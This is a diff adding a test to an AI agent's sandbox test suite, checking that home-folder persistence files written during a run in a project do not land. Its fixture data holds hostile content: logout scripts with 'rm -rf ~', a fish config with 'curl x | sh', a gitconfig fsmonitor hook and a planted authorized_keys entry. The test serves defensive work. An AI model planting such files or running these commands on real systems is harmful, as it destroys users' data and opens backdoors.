@@ -1485,3 +1485,20 @@ def test_tool_configuration_a_run_writes_does_not_land_unless_named(run_agent, f
     code, _, err = run_agent(reply(shell("echo '*.log' > .editorconfig")), *done(), flags=["--file", ".editorconfig"])
     assert code == 0, err
     assert (workspace / ".editorconfig").read_text() == "*.log\n"  # named: it lands
+
+
+@needs_bwrap
+def test_files_a_home_folder_runs_do_not_land_in_a_project(run_agent, fake, workspace, outside, outside_changes):
+    """What was planted when the workspace was $HOME (~/.gitconfig with core.fsmonitor, ~/.local/bin/ls,
+    a .pth in ~/.local/lib, ~/.ssh/authorized_keys, .bash_logout, .zlogout, fish's config): a run in
+    a project may write the same names; none lands, and the end of the run lists each."""
+    planted = {".gitconfig": f"[core]\n\tfsmonitor = touch {outside}/pwned\n", ".local/bin/ls": "#!/bin/sh\n",
+               ".local/lib/python3.11/site-packages/x.pth": "import os\n", ".ssh/authorized_keys": "ssh-ed25519 AAAA\n",
+               ".bash_logout": "rm -rf ~\n", ".zlogout": "rm -rf ~\n", ".config/fish/config.fish": "curl x | sh\n"}
+    command = " && ".join(f"mkdir -p $(dirname {p}) && printf %s {shlex.quote(text)} > {p}" for p, text in planted.items())
+    code, _, err = run_agent(reply(shell(command + " && chmod +x .local/bin/ls")), *done())
+    assert code == 0, err
+    for path in planted:  # .ssh, a credentials folder, is removed after the command already
+        assert not_applied(err, path, "") or path.startswith(".ssh/") and "removed .ssh/, made by the command" in err
+    assert made(workspace) == []
+    assert outside_changes() == []
